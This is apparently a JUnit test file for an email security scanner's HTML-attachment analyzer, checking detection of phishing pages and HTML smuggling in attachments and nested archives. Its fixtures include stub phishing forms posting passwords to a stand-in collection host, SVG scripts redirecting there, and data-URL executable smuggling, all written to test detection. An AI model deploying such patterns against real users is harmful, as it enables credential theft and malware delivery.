package io.mamori.core.attachment;

import static org.assertj.core.api.Assertions.assertThat;

import io.mamori.core.analysis.AnalysisInput;
import io.mamori.core.analysis.Finding;
import io.mamori.core.analysis.FindingCatalogue;
import io.mamori.core.message.Direction;
import io.mamori.core.message.Envelope;
import io.mamori.core.message.Fixtures;
import io.mamori.core.message.MessageParser;
import io.mamori.core.message.ParsedMessage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;

class HtmlAttachmentAnalyzerTest {

    private static final Envelope ENVELOPE = new Envelope(Direction.INBOUND, "a@partner.example",
            List.of("keiri@example.co.jp"), "192.0.2.1", "mail.partner.example", null, false, Instant.EPOCH);

    private final HtmlAttachmentAnalyzer analyzer = new HtmlAttachmentAnalyzer();

    private List<Finding> analyze(String fileName, String contentType, String content) throws Exception {
        String mail = "From: a@partner.example\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
                + "--b\r\nContent-Type: " + contentType + "; name=\"" + fileName + "\"\r\n"
                + "Content-Disposition: attachment; filename=\"" + fileName + "\"\r\n\r\n" + content + "\r\n--b--\r\n";
        try (var parsed = new MessageParser().parse(new ByteArrayInputStream(mail.getBytes(StandardCharsets.UTF_8)))) {
            return analyzer.analyze(new AnalysisInput(ENVELOPE, parsed));
        }
    }

    @Test
    void anSvgImageWithScriptAndAPageThatRefreshesElsewhereAreActive() throws Exception {
        assertThat(analyze("scan.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>"
                + "location.href='https://collect.example.net/?e='+atob('eA==')</script></svg>")).containsExactly(
                Finding.of("HTML_ATTACHMENT", "scan.svg"),
                Finding.of("HTML_ATTACHMENT_SCRIPT", "scan.svg: location.href, atob"));
        assertThat(analyze("notice.htm", "application/octet-stream",
                "<html><head><meta http-equiv='refresh' content='0; url=https://collect.example.net/'></head></html>"))
                .containsExactly(Finding.of("HTML_ATTACHMENT", "notice.htm"),
                        Finding.of("HTML_ATTACHMENT_SCRIPT", "notice.htm: meta refresh"));
    }

    @Test
    void aLoginPageAttachedAsAFileIsAForm() throws Exception {
        assertThat(analyze("Remittance.shtml", "text/html", "<form action='https://collect.example.net/p'>"
                + "<input name=u><input type=password name=p></form>")).containsExactly(
                Finding.of("HTML_ATTACHMENT", "Remittance.shtml"),
                Finding.of("HTML_ATTACHMENT_FORM", "Remittance.shtml: password field, form to https://collect.example.net/p"));
    }

    @Test
    void otherAttachmentsAndHtmlBodiesAreNotHtmlFiles() throws Exception {
        assertThat(analyze("report.pdf", "application/pdf", "%PDF-1.4 <script>atob('x')</script>")).isEmpty();
        try (var parsed = Fixtures.parse("link/newsletter.eml")) {
            assertThat(analyzer.analyze(new AnalysisInput(ENVELOPE, parsed))).isEmpty();
        }
    }

    // ---- HTML and SVG files inside archives ---------------------------------------------------------------

    private List<Finding> analyzeFile(String fileName, byte[] content) throws Exception {
        return analyzeWith(analyzer, fileName, content);
    }

    private static List<Finding> analyzeWith(io.mamori.core.analysis.Analyzer a, String fileName, byte[] content)
            throws Exception {
        String mail = "From: a@partner.example\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
                + "--b\r\nContent-Type: application/octet-stream; name=\"" + fileName + "\"\r\n"
                + "Content-Disposition: attachment; filename=\"" + fileName + "\"\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + Base64.getMimeEncoder().encodeToString(content)
                + "\r\n--b--\r\n";
        try (var parsed = new MessageParser().parse(new ByteArrayInputStream(mail.getBytes(StandardCharsets.UTF_8)))) {
            return a.analyze(new AnalysisInput(ENVELOPE, parsed));
        }
    }

    /** A zip of (name, content) pairs, deflated, as java.util.zip writes one. */
    private static byte[] zip(Object... namesAndContents) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (int i = 0; i < namesAndContents.length; i += 2) {
                zip.putNextEntry(new ZipEntry((String) namesAndContents[i]));
                Object content = namesAndContents[i + 1];
                zip.write(content instanceof String text ? text.getBytes(StandardCharsets.UTF_8) : (byte[]) content);
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    @Test
    void theAttachmentAnalyzersShareOneInspectionOfEachMessageAndFindWhatTheirOwnWalksFind() throws Exception {
        ParsedMessage message = message(
                "Invoice.zip", zip("invoice.pdf.exe", "MZ", "invoice.html", "<form><input type=password name=p></form>"),
                "logo.png", PNG);
        AttachmentContentAnalyzer content = new AttachmentContentAnalyzer();
        // one input per message, as the pipeline gives all analyzers of a message
        AnalysisInput input = new AnalysisInput(ENVELOPE, message);
        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(4);
        List<java.util.concurrent.Future<List<Finding>>> pages = new ArrayList<>();
        List<java.util.concurrent.Future<List<Finding>>> contents = new ArrayList<>();
        try {
            java.util.concurrent.CountDownLatch start = new java.util.concurrent.CountDownLatch(1);
            for (int i = 0; i < 2; i++) {
                pages.add(pool.submit(() -> {
                    start.await();
                    return analyzer.analyze(input);
                }));
                contents.add(pool.submit(() -> {
                    start.await();
                    return content.analyze(input);
                }));
            }
            start.countDown();
            // limits equal in all that matters but not the defaults: an inspection of its own, without the memo
            ArchiveLimits own = new ArchiveLimits(5, 1000, 100, 200L * 1024 * 1024, 32 * 1024 * 1024 + 1);
            List<Finding> alone = new AttachmentContentAnalyzer(own).analyze(input);
            assertThat(alone).extracting(Finding::code).contains("ATTACHMENT_EXECUTABLE");
            for (int i = 0; i < 2; i++) {
                assertThat(pages.get(i).get()).containsExactly(Finding.of("HTML_ATTACHMENT", "Invoice.zip!/invoice.html"),
                        Finding.of("HTML_ATTACHMENT_FORM", "Invoice.zip!/invoice.html: password field, form"));
                assertThat(contents.get(i).get()).isEqualTo(alone);
            }
        } finally {
            pool.shutdown();
        }
        // four analyses, one walk through the archive (the analyzer with other limits does not use the memo)
        assertThat(AttachmentContentAnalyzer.inspections(input)).isEqualTo(1);
        // another scan of the same message (another input) is inspected anew
        AnalysisInput again = new AnalysisInput(ENVELOPE, message);
        assertThat(AttachmentContentAnalyzer.inspections(again)).isZero();
        analyzer.analyze(again);
        content.analyze(again);
        assertThat(AttachmentContentAnalyzer.inspections(again)).isEqualTo(1);
        assertThat(AttachmentContentAnalyzer.inspections(input)).isEqualTo(1);
    }

    @Test
    void thePagesTheInspectionTakesAreThoseAWalkForPagesHandsOver() throws Exception {
        byte[] inner = zip("docs/scan.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>"
                + "window.location='https://collect.example.net/?e='+atob('eA==')</script></svg>");
        List<Object> many = new ArrayList<>();
        for (int i = 0; i < 12; i++) {
            many.add("p" + i + ".html");
            many.add(i % 2 == 0 ? "<form action='https://x.example/" + i + "'></form>" : "<p>page " + i + "</p>");
        }
        // pages of 2.5 MiB of words (compressing about tenfold, not a bomb): each read up to 2 MiB, and 8 MiB in all
        // are read out of the message's archives
        java.util.Random random = new java.util.Random(7);
        String[] words = new String[64];
        for (int i = 0; i < words.length; i++) {
            words[i] = Integer.toString(random.nextInt(1 << 30), 36);
        }
        StringBuilder text = new StringBuilder("<html><body><script>eval(1)</script>");
        while (text.length() < 5 * 512 * 1024) {
            text.append(words[random.nextInt(words.length)]).append(' ');
        }
        String big = text.append("</body></html>").toString();
        byte[] large = zip("a.html", big, "b.html", big, "c.html", big, "d.html", big, "e.html", big);
        ParsedMessage message = message("login.zip", zip("readme.txt", "open it", "login.htm", "<input type=password>"),
                "fax.zip", zip("inner.zip", inner, "cover.pdf", "%PDF-1.4 not really"),
                "many.zip", zip(many.toArray()), "large.zip", large, "photo.jpg", new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, 0});

        List<HtmlAttachmentAnalyzer.Page> walked = new ArrayList<>();
        ArchiveContents walk = new ArchiveContents(ArchiveLimits.defaults(),
                java.util.Map.of(ArchiveContents.Type.HTML, HtmlAttachmentAnalyzer.MAX_BYTES),
                HtmlAttachmentAnalyzer.MAX_ARCHIVED_BYTES);
        for (var part : message.parts()) {
            if (part.content() != null) {
                walk.walkIfArchive(part.filename(), part.filename(), part.content(), file -> {
                    String[] signs = HtmlAttachmentAnalyzer.signs(file.path(), HtmlAttachmentAnalyzer.decode(file.bytes(), null));
                    walked.add(new HtmlAttachmentAnalyzer.Page(part.path(), file.path(), signs[0], signs[1]));
                    return walked.size() < HtmlAttachmentAnalyzer.MAX_FILES;
                });
            }
        }
        List<HtmlAttachmentAnalyzer.Page> inspected = AttachmentContentAnalyzer.inspected(new AnalysisInput(ENVELOPE, message)).pages();
        assertThat(inspected).isEqualTo(walked);
        assertThat(inspected).extracting(HtmlAttachmentAnalyzer.Page::path).containsExactly("login.zip!/login.htm",
                "fax.zip!/inner.zip!/docs/scan.svg", "many.zip!/p0.html", "many.zip!/p1.html", "many.zip!/p2.html",
                "many.zip!/p3.html", "many.zip!/p4.html", "many.zip!/p5.html", "many.zip!/p6.html", "many.zip!/p7.html");

        // without the page cap, the byte caps decide
        ParsedMessage large2 = message("large.zip", large);
        walked.clear();
        ArchiveContents walk2 = new ArchiveContents(ArchiveLimits.defaults(),
                java.util.Map.of(ArchiveContents.Type.HTML, HtmlAttachmentAnalyzer.MAX_BYTES),
                HtmlAttachmentAnalyzer.MAX_ARCHIVED_BYTES);
        walk2.walkIfArchive("large.zip", "large.zip", large2.parts().get(1).content(), file -> {
            String[] signs = HtmlAttachmentAnalyzer.signs(file.path(), HtmlAttachmentAnalyzer.decode(file.bytes(), null));
            walked.add(new HtmlAttachmentAnalyzer.Page("2", file.path(), signs[0], signs[1]));
            return true;
        });
        assertThat(AttachmentContentAnalyzer.inspected(new AnalysisInput(ENVELOPE, large2)).pages()).isEqualTo(walked)
                .extracting(HtmlAttachmentAnalyzer.Page::path)
                .containsExactly("large.zip!/a.html", "large.zip!/b.html", "large.zip!/c.html", "large.zip!/d.html");
    }

    @Test
    void eachPartIsReadOnceToTellWhetherItIsAnArchiveWhenAnalyzersAskInParallel() throws Exception {
        // a zip named as a page: the HTML analyzer asks whether it is an archive (and then walks the message itself)
        ParsedMessage message = message("invoice.html", zip("a.html", "<form></form>"), "logo.png", PNG);
        AnalysisInput input = new AnalysisInput(ENVELOPE, message);
        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(4);
        try {
            java.util.concurrent.CountDownLatch start = new java.util.concurrent.CountDownLatch(1);
            List<java.util.concurrent.Future<List<Finding>>> runs = new ArrayList<>();
            for (int i = 0; i < 4; i++) {
                runs.add(pool.submit(() -> {
                    start.await();
                    return analyzer.analyze(input);
                }));
            }
            start.countDown();
            for (java.util.concurrent.Future<List<Finding>> run : runs) {
                assertThat(run.get()).containsExactly(Finding.of("HTML_ATTACHMENT", "invoice.html"));
            }
        } finally {
            pool.shutdown();
        }
        var page = message.parts().get(1).content();
        ArchiveContents.Heads heads = ArchiveContents.heads(input);
        assertThat(heads.reads(page)).isEqualTo(1);
        assertThat(AttachmentContentAnalyzer.inspections(input)).isZero();
        byte[] whole;
        try (var in = page.open()) {
            whole = in.readAllBytes();
        }
        assertThat(heads.head(page)).isEqualTo(java.util.Arrays.copyOf(whole, Math.min(whole.length, ArchiveContents.HEAD)));
        assertThat(heads.reads(page)).isEqualTo(1);
        // another input (another scan of the message) reads it anew
        assertThat(ArchiveContents.heads(new AnalysisInput(ENVELOPE, message)).reads(page)).isZero();
    }

    /** A message with a line of text and the given attachments (name, content pairs), parsed. */
    private static ParsedMessage message(Object... namesAndContents) throws IOException {
        StringBuilder mail = new StringBuilder("From: a@partner.example\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n");
        for (int i = 0; i < namesAndContents.length; i += 2) {
            mail.append("--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"")
                    .append(namesAndContents[i]).append("\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
                    .append(Base64.getMimeEncoder().encodeToString((byte[]) namesAndContents[i + 1])).append("\r\n");
        }
        mail.append("--b--\r\n");
        return new MessageParser().parse(new ByteArrayInputStream(mail.toString().getBytes(StandardCharsets.UTF_8)));
    }

    /** The first bytes of a PNG file: enough to be told from an archive. */
    private static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'};

    @Test
    void aLoginPageInsideAZipIsAFormNamedByItsPathInTheArchive() throws Exception {
        byte[] zip = zip("readme.txt", "Please open the invoice.",
                "invoice.html", "<html><body><form action='https://collect.example.net/p'>"
                        + "<input name=u><input type=password name=p></form></body></html>");
        assertThat(analyzeFile("Invoice.zip", zip)).containsExactly(
                Finding.of("HTML_ATTACHMENT", "Invoice.zip!/invoice.html"),
                Finding.of("HTML_ATTACHMENT_FORM", "Invoice.zip!/invoice.html: password field, form to https://collect.example.net/p"));
    }

    @Test
    void aPageThatStartsLikeRtfIsReadWholeForItsForm() throws Exception {
        // RTF by its first bytes, a page by its name (a browser renders it): the RTF template search must not take
        // the page's first megabyte away from the page checks
        byte[] zip = zip("invoice.html", "{\\rtf1 " + " ".repeat(64 * 1024) + "<form action='https://collect.example.net/p'>"
                + "<input type=password name=p></form>");
        assertThat(analyzeFile("Invoice.zip", zip)).contains(
                Finding.of("HTML_ATTACHMENT_FORM", "Invoice.zip!/invoice.html: password field, form to https://collect.example.net/p"));
    }

    @Test
    void aLoginPageInsideAPasswordZipIsFoundOnceThePasswordTheMessageGivesOpensIt() throws Exception {
        // PPAP: the page is in an AES zip; the body gives its password. Without it nothing can be read.
        byte[] zip = EncryptedFiles.zip("Seikyu-2025", true, "invoice.html", ("<html><body><form action="
                + "'https://collect.example.net/p'><input name=u><input type=password name=p></form></body></html>")
                .getBytes(StandardCharsets.UTF_8));
        for (String body : List.of("Invoice attached.\r\nPassword: Seikyu-2025", "Invoice attached.")) {
            String mail = "From: a@partner.example\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
                    + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n" + body
                    + "\r\n--b\r\nContent-Type: application/zip; name=\"Invoice.zip\"\r\n"
                    + "Content-Disposition: attachment; filename=\"Invoice.zip\"\r\n"
                    + "Content-Transfer-Encoding: base64\r\n\r\n" + Base64.getMimeEncoder().encodeToString(zip) + "\r\n--b--\r\n";
            try (var parsed = new MessageParser().parse(new ByteArrayInputStream(mail.getBytes(StandardCharsets.UTF_8)))) {
                List<Finding> findings = analyzer.analyze(new AnalysisInput(ENVELOPE, parsed));
                if (body.contains("Password")) {
                    assertThat(findings).containsExactly(Finding.of("HTML_ATTACHMENT", "Invoice.zip!/invoice.html"),
                            Finding.of("HTML_ATTACHMENT_FORM",
                                    "Invoice.zip!/invoice.html: password field, form to https://collect.example.net/p"));
                } else {
                    assertThat(findings).isEmpty();
                }
            }
        }
    }

    @Test
    void aLoginPageInARarStoredOrCompressedIsAFormNamedByItsPathInTheArchive() throws Exception {
        byte[] page = ("<html><body><form action='https://collect.example.net/p'>"
                + "<input name=u><input type=password name=p></form></body></html>").getBytes(StandardCharsets.UTF_8);
        byte[] note = "Please open the invoice.".getBytes(StandardCharsets.UTF_8);
        // stored, beside an entry libarchive cannot unpack; and compressed (unpacked by libarchive)
        byte[] stored = RarWriter.rar5().add("readme.txt", RarWriter.Kind.COMPRESSED, note)
                .add("請求書/invoice.html", RarWriter.Kind.STORED, page).end();
        byte[] packed = RarWriter.rar5().add("請求書/invoice.html", RarWriter.Kind.PACKED, page).end();
        for (byte[] rar : List.of(stored, packed)) {
            assertThat(analyzeFile("請求書.rar", rar)).containsExactly(
                    Finding.of("HTML_ATTACHMENT", "請求書.rar!/請求書/invoice.html"),
                    Finding.of("HTML_ATTACHMENT_FORM",
                            "請求書.rar!/請求書/invoice.html: password field, form to https://collect.example.net/p"));
        }
    }

    @Test
    void anSvgThatNavigatesByScriptInsideAZipInsideAZipIsActive() throws Exception {
        byte[] inner = zip("docs/scan.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>"
                + "window.location='https://collect.example.net/?e='+atob('eA==')</script></svg>");
        byte[] outer = zip("inner.zip", inner);
        assertThat(analyzeFile("fax.zip", outer)).containsExactly(
                Finding.of("HTML_ATTACHMENT", "fax.zip!/inner.zip!/docs/scan.svg"),
                Finding.of("HTML_ATTACHMENT_SCRIPT", "fax.zip!/inner.zip!/docs/scan.svg: window.location, atob"));
    }

    @Test
    void aPageThatRefreshesElsewhereInsideAGzippedTarIsActive() throws Exception {
        byte[] page = "<html><head><meta http-equiv='refresh' content='0;url=https://collect.example.net/'></head></html>"
                .getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (var tar = new org.apache.commons.compress.archivers.tar.TarArchiveOutputStream(
                new org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream(out))) {
            var entry = new org.apache.commons.compress.archivers.tar.TarArchiveEntry("scan/remittance.htm");
            entry.setSize(page.length);
            tar.putArchiveEntry(entry);
            tar.write(page);
            tar.closeArchiveEntry();
        }
        assertThat(analyzeFile("remittance.tgz", out.toByteArray())).containsExactly(
                Finding.of("HTML_ATTACHMENT", "remittance.tgz!/remittance.tar!/scan/remittance.htm"),
                Finding.of("HTML_ATTACHMENT_SCRIPT", "remittance.tgz!/remittance.tar!/scan/remittance.htm: meta refresh"));
    }

    @Test
    void anOrdinaryNewsletterPageInsideAZipIsAnHtmlFileWithoutFormOrScript() throws Exception {
        byte[] zip = zip("newsletter-2024-04.html", "<html><head><meta charset='utf-8'><title>4月号</title></head><body>"
                + "<h1>社内報 4月号</h1><p>新しい仲間を紹介します。</p><a href='https://www.example.co.jp/news'>続きを読む</a>"
                + "<img src='logo.png' alt=''></body></html>", "logo.png", new byte[] {(byte) 0x89, 'P', 'N', 'G'});
        assertThat(analyzeFile("newsletter.zip", zip)).containsExactly(
                Finding.of("HTML_ATTACHMENT", "newsletter.zip!/newsletter-2024-04.html"));
    }

    @Test
    void aZipWithoutPagesAndAnEncryptedZipWithAPageYieldNothingHereAndTheEncryptedOneStaysEncrypted() throws Exception {
        assertThat(analyzeFile("photos.zip", zip("a.jpg", new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, 0},
                "notes.txt", "<form><input type=password></form>"))).isEmpty();

        // ZipCrypto encrypts contents, not names: the encryption flag on a deflated entry makes it one to readers
        byte[] zip = zip("login.html", "<form action='https://collect.example.net/p'><input type=password></form>");
        zip[6] |= 1;
        for (int i = 0; i + 8 < zip.length; i++) {
            if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2) {
                zip[i + 8] |= 1;
            }
        }
        assertThat(analyzeFile("secret.zip", zip)).isEmpty();
        assertThat(analyzeWith(new AttachmentContentAnalyzer(), "secret.zip", zip))
                .containsExactly(Finding.of("ENCRYPTED_ARCHIVE", "secret.zip (part 2)"));
    }

    @Test
    void tenThousandPagesInAZipAreExaminedOnlyUpToTheCap() throws Exception {
        Object[] entries = new Object[20_000];
        for (int i = 0; i < 10_000; i++) {
            entries[2 * i] = "p" + i + ".html";
            entries[2 * i + 1] = "<form><input type=password></form>";
        }
        List<Finding> findings = analyzeFile("many.zip", zip(entries));
        assertThat(findings).extracting(Finding::code).containsExactly("HTML_ATTACHMENT", "HTML_ATTACHMENT_FORM");
        assertThat(findings.get(0).evidence().split("; ")).hasSize(HtmlAttachmentAnalyzer.MAX_FILES)
                .startsWith("many.zip!/p0.html").endsWith("many.zip!/p" + (HtmlAttachmentAnalyzer.MAX_FILES - 1) + ".html");
        assertThat(findings.get(1).evidence().split("; ")).hasSize(HtmlAttachmentAnalyzer.MAX_FILES);
    }

    @Test
    void anAttachedOfficeDocumentIsOpenedForItsPicturesOnlyAndPagesInsideItAreNoHtmlFiles() throws Exception {
        byte[] png = new byte[300];
        System.arraycopy(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}, 0, png, 0, 8);
        byte[] docx = zip("[Content_Types].xml", "<Types/>", "word/document.xml", "<document/>",
                "word/page.html", "<form action='https://collect.example.net/p'><input type=password></form>",
                "word/media/image1.png", png);
        assertThat(analyzeFile("report.docx", docx)).isEmpty();

        // a walk for pages does not open the document; a walk for pictures takes its picture parts, and only them
        List<String> pages = new ArrayList<>();
        new ArchiveContents(ArchiveLimits.defaults(), java.util.Map.of(ArchiveContents.Type.HTML, 2000), 5000)
                .walk("report.docx", "report.docx", new ByteArrayInputStream(docx), f -> pages.add(f.path()));
        assertThat(pages).isEmpty();
        List<String> pictures = new ArrayList<>();
        new ArchiveContents(ArchiveLimits.defaults(), java.util.Map.of(ArchiveContents.Type.HTML, 2000,
                ArchiveContents.Type.PICTURE, 2000), 5000)
                .walk("report.docx", "report.docx", new ByteArrayInputStream(docx), f -> pictures.add(f.path()));
        assertThat(pictures).containsExactly("report.docx!/word/media/image1.png");
    }

    @Test
    void theBytesHandedOverFromArchivesAreCappedPerMessage() throws Exception {
        byte[] page = ("<p>" + "x".repeat(3000) + "</p>").getBytes(StandardCharsets.UTF_8);
        byte[] zip = zip("a.html", page, "b.html", page, "c.html", page);
        List<String> seen = new ArrayList<>();
        List<Boolean> complete = new ArrayList<>();
        ArchiveContents contents = new ArchiveContents(ArchiveLimits.defaults(),
                java.util.Map.of(ArchiveContents.Type.HTML, 2000), 5000);
        boolean more = contents.walk("z.zip", "z.zip", new ByteArrayInputStream(zip), f -> {
            seen.add(f.path() + " " + f.bytes().length);
            complete.add(f.complete());
            return true;
        });
        // each file cut at 2000 bytes, the third at what is left of 5000, and then the walk ends
        assertThat(seen).containsExactly("z.zip!/a.html 2000", "z.zip!/b.html 2000", "z.zip!/c.html 1000");
        assertThat(complete).containsExactly(false, false, false);
        assertThat(more).isFalse();
        assertThat(contents.walk("y.zip", "y.zip", new ByteArrayInputStream(zip), f -> true)).isFalse();

        // a walk whose deadline has passed hands nothing over and ends
        ArchiveContents late = new ArchiveContents(ArchiveLimits.defaults(),
                java.util.Map.of(ArchiveContents.Type.HTML, 2000), 5000, System.nanoTime() - 1);
        List<String> none = new ArrayList<>();
        assertThat(late.walk("z.zip", "z.zip", new ByteArrayInputStream(zip), f -> none.add(f.path()))).isFalse();
        assertThat(none).isEmpty();
    }

    @Test
    void everyDeclaredCodeIsInTheCatalogue() {
        FindingCatalogue catalogue = FindingCatalogue.builtIn();
        assertThat(analyzer.codes()).containsExactly("HTML_ATTACHMENT", "HTML_ATTACHMENT_FORM", "HTML_ATTACHMENT_SCRIPT");
        analyzer.codes().forEach(c -> assertThat(catalogue.entry(c)).as(c).isPresent());
    }

    /** The smallest head FileSignatures takes for a PE: MZ, the PE header's offset at 0x3C, the signature there. */
    private static String peBase64() {
        byte[] pe = new byte[512];
        pe[0] = 'M';
        pe[1] = 'Z';
        pe[0x3C] = (byte) 0x80;
        pe[0x80] = 'P';
        pe[0x81] = 'E';
        return Base64.getEncoder().encodeToString(pe);
    }

    @Test
    void aLoginPageWhoseNameEndsInADotIsAPageAsWindowsOpensIt() throws Exception {
        assertThat(analyze("login.htm.", "application/octet-stream", "<form action='https://collect.example.net/p'>"
                + "<input type=password name=p></form>")).extracting(Finding::code)
                .containsExactly("HTML_ATTACHMENT", "HTML_ATTACHMENT_FORM");
    }

    @Test
    void aPageWhoseOtherNameIsHtmlIsAPage() throws Exception {
        String mail = "From: a@partner.example\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee\r\n"
                + "--b\r\nContent-Type: application/octet-stream; name=\"login.html\"\r\n"
                + "Content-Disposition: attachment; filename=\"login.txt\"\r\n\r\n<input type=password>\r\n--b--\r\n";
        try (var parsed = new MessageParser().parse(new ByteArrayInputStream(mail.getBytes(StandardCharsets.UTF_8)))) {
            assertThat(analyzer.analyze(new AnalysisInput(ENVELOPE, parsed))).extracting(Finding::code)
                    .containsExactly("HTML_ATTACHMENT", "HTML_ATTACHMENT_FORM");
        }
    }

    @Test
    void aDownloadLinkToADataUrlCarryingAProgramIsSmuggling() throws Exception {
        assertThat(analyze("invoice.html", "text/html", "<a download='invoice.exe' href='data:image/png;base64,"
                + peBase64() + "'>Download</a>")).containsExactly(
                Finding.of("HTML_ATTACHMENT", "invoice.html"),
                Finding.of("HTML_ATTACHMENT_SCRIPT", "invoice.html: download of a data: URL, data: URL payload: "
                        + "Windows executable (PE)"));
    }

    @Test
    void aProgramInADataUrlInsideScriptIsSmugglingWhateverTypeItClaims() throws Exception {
        assertThat(analyze("invoice.html", "text/html", "<script>var u = \"data:text/plain;base64," + peBase64()
                + "\";</script>")).contains(Finding.of("HTML_ATTACHMENT_SCRIPT",
                "invoice.html: data: URL payload: Windows executable (PE)"));
    }

    @Test
    void aLongDataUrlOfAFileTypeIsSmugglingAndALongPictureIsNot() throws Exception {
        String payload = Base64.getEncoder().encodeToString(new byte[3000]);
        assertThat(analyze("a.html", "text/html", "<a href='data:application/octet-stream;base64," + payload + "'>x</a>"))
                .contains(Finding.of("HTML_ATTACHMENT_SCRIPT", "a.html: data: URL of application/octet-stream"));
        assertThat(analyze("a.html", "text/html", "<img src='data:image/png;base64," + payload + "'>"))
                .containsExactly(Finding.of("HTML_ATTACHMENT", "a.html"));
    }

    @Test
    void scriptThatBuildsABlobOrNamesLocationByAComputedStringIsActive() throws Exception {
        assertThat(analyze("scan.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>"
                + "window[\"loc\"+\"ation\"]=\"https://collect.example.net/\";</script></svg>")).contains(
                Finding.of("HTML_ATTACHMENT_SCRIPT", "scan.svg: window["));
        assertThat(analyze("a.html", "text/html", "<script>var b = new Blob([new Uint8Array(d)]);</script>")).contains(
                Finding.of("HTML_ATTACHMENT_SCRIPT", "a.html: blob, uint8array"));
    }
}
